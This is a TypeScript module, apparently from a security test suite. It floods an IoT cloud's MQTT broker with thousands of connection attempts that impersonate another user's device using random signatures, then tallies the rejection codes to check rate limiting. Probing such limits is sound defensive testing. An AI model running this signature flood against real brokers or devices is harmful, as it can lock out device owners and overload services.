/**
 * Simultaneous wrong signatures for a device of somebody else. The report counts
 * how many the cloud judged: CONNACK 4 says that a signature is wrong, 5 that
 * there were too many.
 */
import { randomBytes } from "node:crypto"
import type { Attack } from "../Attack.ts"
import { openDevice } from "../../DeviceSocket.ts"

const attempts = 2000
/** Milliseconds between the waves. */
const interval = 5000

export const wrongSignatures: Attack = {
  name: "wrong-signatures",
  // Ten in a minute for the device from one address, and as many again while attempts are under way.
  limits: { judged: 20 },
  prepare: async ({ address, bystander, cloud, count }) => {
    const wave = (): void => {
      for (let i = 0; i < attempts; i++) {
        const guess = {
          ...bystander,
          deviceId: "",
          deviceSecret: "",
          topic: "",
          clientId: `${bystander.deviceName}|signmethod=hmacsha1,authType=1|`,
          username: `${bystander.deviceName}&${bystander.productKey}`,
          password: randomBytes(20).toString("hex")
        }
        openDevice(guess, {
          mqtt: cloud.mqtt,
          from: address(),
          onConnack: (code, socket) => {
            count(code === 4 ? "judged" : `CONNACK ${code}`)
            socket.destroy()
          }
        })
      }
    }
    return () => {
      wave()
      setInterval(wave, interval)
    }
  }
}
